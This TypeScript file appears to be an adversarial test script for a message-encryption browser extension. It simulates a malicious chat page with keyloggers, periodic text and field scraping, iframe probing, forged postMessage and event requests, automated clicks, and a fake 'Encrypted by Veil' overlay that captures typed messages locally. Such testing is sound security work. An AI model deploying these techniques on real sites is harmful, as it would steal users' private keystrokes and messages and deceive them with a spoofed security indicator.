// hostile.js: the chat site's own script turned malicious. Loaded in <head> (before the page's
// own bundle and before anything an extension adds) when the page URL has hostile=1. It tries
// every way a page can reach plaintext or drive an extension, and records what it got in
// window.__hostile.collected. Individual behaviours can be turned off with
// hostileOff=<comma list> (keys, scrape, mutations, frames, shadow, spam, events, click, overlay).

export {};

interface HostileHooks {
  collected: string[];
  report(): string[];
  stop(): void;
  clicks: number;
}

declare global {
  interface Window {
    __hostile?: HostileHooks;
  }
}

const MAX_ITEMS = 20000;
const MAX_ITEM_CHARS = 20000;
const collected: string[] = [];
const seen = new Set<string>();
const timers: ReturnType<typeof setInterval>[] = [];
const off = new Set((new URLSearchParams(location.search).get('hostileOff') ?? '').split(',').filter(Boolean));
const OWN = 'data-hostile';
let clicks = 0;

/** Records one captured string (deduplicated, bounded so a long session stays small). */
function grab(source: string, value: unknown): void {
  let text: string;
  try {
    text = typeof value === 'string' ? value : JSON.stringify(value);
  } catch {
    text = String(value);
  }
  if (!text) return;
  const item = `${source}: ${text.slice(0, MAX_ITEM_CHARS)}`;
  if (seen.has(item) || collected.length >= MAX_ITEMS) return;
  seen.add(item);
  collected.push(item);
}

function every(ms: number, fn: () => void): void {
  timers.push(
    setInterval(() => {
      try {
        fn();
      } catch (err) {
        grab('error', String(err));
      }
    }, ms),
  );
}

function isOwn(el: Element): boolean {
  return el.closest(`[${OWN}]`) !== null;
}

/** Every element in the document, descending into open shadow roots. */
function allElements(root: Document | ShadowRoot = document): Element[] {
  const out: Element[] = [];
  for (const el of root.querySelectorAll('*')) {
    out.push(el);
    if (el.shadowRoot) out.push(...allElements(el.shadowRoot));
  }
  return out;
}

// ---- keyloggers -----------------------------------------------------------------------------
if (!off.has('keys')) {
  const types = ['keydown', 'keypress', 'keyup', 'input', 'beforeinput', 'paste', 'copy', 'cut', 'compositionend', 'textInput'];
  const log = (e: Event): void => {
    if (e instanceof KeyboardEvent) grab(`${e.type}`, e.key);
    else if (e instanceof InputEvent) {
      grab(e.type, e.data ?? '');
      grab(`${e.type}:transfer`, e.dataTransfer?.getData('text/plain') ?? '');
    } else if (e instanceof ClipboardEvent) grab(e.type, e.clipboardData?.getData('text/plain') ?? '');
    else if (e instanceof CompositionEvent) grab(e.type, e.data);
    else grab(e.type, (e as Event & { data?: unknown }).data ?? '');
    const t = e.target;
    if (t instanceof HTMLInputElement || t instanceof HTMLTextAreaElement) grab(`${e.type}:value`, t.value);
    else if (t instanceof HTMLElement && t.isContentEditable) grab(`${e.type}:editable`, t.innerText);
  };
  for (const target of [window, document]) for (const type of types) target.addEventListener(type, log, true);
}

// ---- periodic scraping of all text and all fields ---------------------------------------------
if (!off.has('scrape')) {
  every(500, () => {
    if (!document.body) return;
    grab('innerText', document.body.innerText);
    grab('textContent', document.body.textContent ?? '');
    for (const el of allElements()) {
      if (el instanceof HTMLInputElement || el instanceof HTMLTextAreaElement) grab('field', el.value);
      if (el instanceof HTMLElement && el.isContentEditable && !isOwn(el)) grab('editable', el.innerText);
      if (!off.has('shadow') && el.shadowRoot) grab('shadow', el.shadowRoot.textContent ?? '');
    }
    const sel = document.getSelection();
    if (sel) grab('selection', sel.toString());
  });
}

// ---- observe every DOM change -------------------------------------------------------------------
if (!off.has('mutations')) {
  const mo = new MutationObserver((records) => {
    for (const r of records) {
      if (r.type === 'characterData') grab('mutation:characterData', r.target.textContent ?? '');
      else if (r.type === 'attributes' && r.target instanceof Element && r.attributeName) {
        grab(`mutation:attr:${r.attributeName}`, r.target.getAttribute(r.attributeName) ?? '');
      } else {
        for (const n of r.addedNodes) {
          grab('mutation:added', n.textContent ?? '');
          if (n instanceof Element && n.shadowRoot) grab('mutation:shadow', n.shadowRoot.textContent ?? '');
        }
      }
    }
  });
  mo.observe(document, { subtree: true, childList: true, characterData: true, attributes: true, characterDataOldValue: true, attributeOldValue: true });
}

// ---- reach into every frame -----------------------------------------------------------------
if (!off.has('frames')) {
  every(700, () => {
    document.querySelectorAll('iframe, frame, embed, object').forEach((f, i) => {
      const el = f as HTMLIFrameElement;
      grab(`frame${i}:src`, el.src ?? el.getAttribute('src') ?? '');
      for (const probe of [
        () => el.contentDocument?.documentElement?.innerText,
        () => el.contentWindow?.document.body.innerText,
        () => el.contentWindow?.location.href,
        () => el.contentWindow?.name,
        () => el.contentWindow?.length,
        () => JSON.stringify(Object.keys(el.contentWindow ?? {})),
      ]) {
        try {
          grab(`frame${i}`, probe());
        } catch (err) {
          grab(`frame${i}:blocked`, (err as Error).name);
        }
      }
    });
  });
}

// ---- postMessage spam, and listening for anything that answers --------------------------------
window.addEventListener('message', (e) => grab(`message:${e.origin}`, e.data), true);
if (!off.has('spam')) {
  const shapes = (): unknown[] => {
    const composerText = document.querySelector('#composer')?.textContent ?? '';
    return [
      { type: 'veil', action: 'encrypt', text: 'hostile probe' },
      { veil: true, action: 'encrypt', text: 'hostile probe' },
      { veil: true, action: 'decrypt', text: composerText },
      { type: 'veil:get-plaintext' },
      { type: 'veil', action: 'send', text: 'forged by the page' },
      { type: 'veil', action: 'verify', verified: true },
      { type: 'veil-compose', action: 'submit' },
      { source: 'veil-extension', type: 'ready' },
      { type: 'resize', height: 5000 },
      'veil:encrypt:hostile probe',
    ];
  };
  every(1000, () => {
    const targets: Window[] = [window, ...Array.from({ length: window.frames.length }, (_, i) => window.frames[i] as Window)];
    for (const el of document.querySelectorAll('iframe')) if (el.contentWindow) targets.push(el.contentWindow);
    for (const w of targets) for (const msg of shapes()) {
      try {
        w.postMessage(msg, '*');
      } catch (err) {
        grab('postMessage:error', String(err));
      }
    }
  });
}

// ---- CustomEvent spoofing ---------------------------------------------------------------------
if (!off.has('events')) {
  const names = ['veil', 'veil:encrypt', 'veil:decrypt', 'veil:send', 'veil:verified', 'veil-message', 'veil-request', 'extension-message', 'message'];
  every(1000, () => {
    for (const target of [document, window]) for (const name of names) {
      target.dispatchEvent(new CustomEvent(name, { bubbles: true, detail: { action: 'encrypt', text: 'hostile probe', verified: true } }));
    }
  });
}

// ---- programmatic clicks on buttons the site did not make ---------------------------------------
if (!off.has('click')) {
  every(1000, () => {
    for (const el of allElements()) {
      const clickable = el.matches('button, [role="button"], input[type="button"], input[type="submit"], a[href^="#"]');
      // data-site marks the site's own chrome (Send, Start, Next): hostile.js is the site's script.
      if (!clickable || isOwn(el) || el.closest('[data-site]')) continue;
      (el as HTMLElement).click();
      clicks++;
      grab('clicked', el.outerHTML.slice(0, 200));
    }
  });
}

// ---- a fake "secure compose" box over the composer ---------------------------------------------
if (!off.has('overlay')) {
  const place = (): void => {
    const composer = document.getElementById('composer');
    if (!composer) return;
    let box = document.getElementById('secure-compose-overlay');
    if (!box) {
      box = document.createElement('div');
      box.id = 'secure-compose-overlay';
      box.setAttribute(OWN, '');
      box.style.cssText =
        'position:absolute;z-index:2147483647;display:flex;gap:8px;align-items:center;background:#fff;' +
        'border:2px solid #1e8e3e;border-radius:8px;padding:6px 8px;box-shadow:0 0 0 3px rgba(30,142,62,.2);font:14px system-ui';
      const lock = document.createElement('span');
      lock.textContent = '🔒 Encrypted by Veil';
      lock.style.cssText = 'color:#1e8e3e;font-weight:600;white-space:nowrap';
      const field = document.createElement('textarea');
      field.placeholder = 'Type your secure message (end-to-end encrypted)';
      field.style.cssText = 'flex:1;border:0;outline:none;resize:none;font:inherit';
      field.rows = 1;
      field.addEventListener('input', () => grab('overlay', field.value));
      field.addEventListener('keydown', (e) => {
        if (e.key === 'Enter' && !e.shiftKey) {
          e.preventDefault();
          grab('overlay:sent', field.value);
          field.value = '';
        }
      });
      box.append(lock, field);
      document.body.append(box);
    }
    const r = composer.getBoundingClientRect();
    Object.assign(box.style, { left: `${r.left + scrollX}px`, top: `${r.top + scrollY}px`, width: `${r.width}px`, height: `${r.height}px` });
  };
  every(500, place);
}

window.__hostile = {
  collected,
  report: () => [...collected],
  stop: () => {
    for (const t of timers) clearInterval(t);
  },
  get clicks() {
    return clicks;
  },
};
